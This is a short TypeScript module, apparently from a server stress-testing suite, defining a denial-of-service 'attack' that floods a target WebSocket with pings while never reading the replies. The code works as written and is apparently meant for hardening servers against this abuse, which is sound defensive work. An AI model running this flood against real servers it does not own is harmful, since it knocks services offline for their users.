import { setImmediate } from 'node:timers/promises';
import type { Attack } from '../attack.ts';

export const attack: Attack = {
  name: 'WebSocket pings without a session, whose pongs nobody reads',
  run: async (target, signal) => {
    const { socket, raw } = await target.webSocket();
    raw.pause();
    const data = Buffer.alloc(125);
    while (!signal.aborted && socket.readyState === socket.OPEN) {
      for (let i = 0; i < 1_000 && raw.writableLength < 1_000_000; i++) socket.ping(data);
      await setImmediate();
    }
    raw.destroy();
  },
};
